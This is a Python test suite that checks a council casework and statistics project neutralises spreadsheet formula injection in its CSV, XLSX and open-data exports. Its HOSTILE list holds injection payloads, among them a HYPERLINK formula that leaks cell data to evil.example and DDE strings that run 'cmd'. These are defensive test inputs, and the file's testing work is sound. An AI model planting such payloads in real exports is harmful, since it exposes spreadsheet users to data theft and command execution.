"""Formula injection: every CSV and XLSX the project writes neutralises a text value that a
spreadsheet would run (the OWASP rule), writes plain numbers as they are, and the casework
import turns the prefix back, so an export round trip is lossless."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools

import pytest
from openpyxl import load_workbook

from councilperf.casework.exporting import export_casework
from councilperf.casework.models import Case, Recommendation
from councilperf.casework.services import import_files, import_records
from councilperf.statistics.export import to_csv, write_xlsx
from councilperf.statistics.selectors import EXPORT_COLUMNS
from councilperf.text import PREFIX, neutralise, restore
from councilperf.years import ReportingYear
from tests.casework.builders import TODAY, case, recommendation
from tests.factories import make_authority, make_dataset

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice quoted",
    "=",
    "-",
]
PLAIN_NUMBERS = ["-3", "+1.5", "-0.25", "-1e-05", "+7", "-.5", "-12.", "3"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and cell not in PLAIN_NUMBERS


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_prefixed_and_restored(value: str) -> None:
    written = neutralise(value)
    assert isinstance(written, str) and written == PREFIX + value
    assert restore(written) == value


@pytest.mark.parametrize("value", PLAIN_NUMBERS)
def test_plain_numbers_are_the_documented_exception(value: str) -> None:
    assert neutralise(value) == value and restore(value) == value


def test_every_short_text_round_trips_and_never_starts_a_formula() -> None:
    alphabet = ["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "e", "a", " "]
    for length in range(5):
        for letters in itertools.product(alphabet, repeat=length):
            value = "".join(letters)
            written = neutralise(value)
            assert isinstance(written, str) and restore(written) == value, repr(value)
            assert not dangerous(written) or written == value, repr(value)


def test_non_text_values_pass_unchanged() -> None:
    for value in (-3, -0.5, None, True, dt.date(2020, 1, 1)):
        assert neutralise(value) == value


@pytest.mark.django_db
def test_casework_export_is_neutralised_and_round_trips(tmp_path) -> None:
    make_authority(name="Borsetshire", gss_code="E07999001")
    dataset = make_dataset()
    cases = [
        case(f"19 000 {n:03}", "E07999001", summary=text) for n, text in enumerate(HOSTILE, start=1)
    ]
    recommendations = [recommendation("19 000 001", description=text) for text in HOSTILE[:1]]
    import_records(
        cases=cases, recommendations=recommendations, compliance=[], dataset=dataset, today=TODAY
    )
    files = export_casework(directory=tmp_path)
    cells = [
        cell
        for exported in files
        for line in csv.reader(exported.path.open(encoding="utf-8", newline=""))
        for cell in line
    ]
    assert not [cell for cell in cells if dangerous(cell)]
    assert sum(cell.startswith(PREFIX) for cell in cells) == len(HOSTILE) + 1

    again = [f.path for f in files if f.rows]
    summary = import_files(paths=again, dataset=dataset, today=TODAY)
    assert summary.cases.added == 0 and summary.cases.changed == 0
    assert sorted(Case.objects.values_list("summary", flat=True)) == sorted(HOSTILE)
    assert Recommendation.objects.get().description == HOSTILE[0]


# The statistics CSV ends lines with "\n" only, so a carriage return inside a value is not
# quoted; no statistics value holds one (names come from the reference data).
ONE_LINE = [text for text in HOSTILE if "\r" not in text]


def _table() -> list[dict[str, object]]:
    hostile: dict[str, object] = {
        column: ONE_LINE[n % len(ONE_LINE)] for n, column in enumerate(EXPORT_COLUMNS)
    }
    numbers: dict[str, object] = {column: -(n + 0.5) for n, column in enumerate(EXPORT_COLUMNS)}
    return [hostile, numbers]


def test_statistics_csv_is_neutralised() -> None:
    lines = list(csv.reader(io.StringIO(to_csv(_table()), newline="")))
    assert lines[0] == list(EXPORT_COLUMNS)
    assert not [cell for cell in lines[1] if dangerous(cell)]
    assert all(cell.startswith(PREFIX) for cell in lines[1])
    assert lines[2] == [repr(-(n + 0.5)) for n in range(len(EXPORT_COLUMNS))]
    table: list[dict[str, object]] = [{column: "\r=1+1" for column in EXPORT_COLUMNS}]
    assert to_csv(table).split("\r\n")[1].startswith(f'"{PREFIX}\r=1+1",')


@pytest.mark.parametrize("value", ["a\rb", "a\nb", "a\r\nb", "a\r"])
def test_statistics_csv_keeps_a_line_break_inside_one_cell(value: str) -> None:
    text = to_csv([{column: value for column in EXPORT_COLUMNS}])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [[value] * len(EXPORT_COLUMNS)]
    assert text.count("\r\n") == 2 + value.count("\r\n") * len(EXPORT_COLUMNS)


def test_statistics_xlsx_is_neutralised(tmp_path) -> None:
    path = tmp_path / "statistics.xlsx"
    write_xlsx(_table(), path)
    sheet = load_workbook(path).active
    assert sheet is not None
    header, hostile, numbers = list(sheet.iter_rows())
    assert [cell.value for cell in header] == list(EXPORT_COLUMNS)
    assert [cell.data_type for cell in hostile] == ["s"] * len(EXPORT_COLUMNS)
    assert all(str(cell.value).startswith(PREFIX) for cell in hostile)
    assert [cell.value for cell in numbers] == [-(n + 0.5) for n in range(len(EXPORT_COLUMNS))]


@pytest.mark.django_db
def test_the_council_spreadsheet_is_neutralised() -> None:
    from councilperf.distribution.spreadsheet import casework_xlsx

    council = make_authority(name="Borsetshire", gss_code="E07999001")
    council.official_name = HOSTILE[0]  # the only text in it not from a fixed list
    council.save()
    import_records(
        cases=[case("19 000 001", "E07999001")],
        recommendations=[],
        compliance=[],
        dataset=make_dataset(),
        today=TODAY,
    )
    found = casework_xlsx(authority=council, year=ReportingYear(2019), synthetic=False)
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(found)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if dangerous(text)]
    assert [text for text in texts if text.startswith(PREFIX + HOSTILE[0])]


def test_the_open_data_files_are_neutralised(tmp_path) -> None:
    from councilperf.api import builds, tables

    columns = tables.DECISIONS.columns
    hostile = {column: HOSTILE[n % len(HOSTILE)] for n, column in enumerate(columns)}
    numbers = {column: -(n + 0.5) for n, column in enumerate(columns)}
    text = builds.csv_text(tables.DECISIONS, [hostile, numbers])
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == list(columns)
    assert not [cell for cell in lines[1] if dangerous(cell)]
    assert [restore(cell) for cell in lines[1]] == [hostile[c] for c in columns]
    assert lines[2] == [repr(-(n + 0.5)) for n in range(len(columns))]
    path = tmp_path / "decisions.xlsx"
    builds.write_xlsx(tables.DECISIONS, [hostile, numbers], path)
    sheet = load_workbook(path).active
    assert sheet is not None
    _, written, plain = list(sheet.iter_rows())
    assert all(str(cell.value).startswith(PREFIX) for cell in written)
    assert [cell.value for cell in plain] == [-(n + 0.5) for n in range(len(columns))]
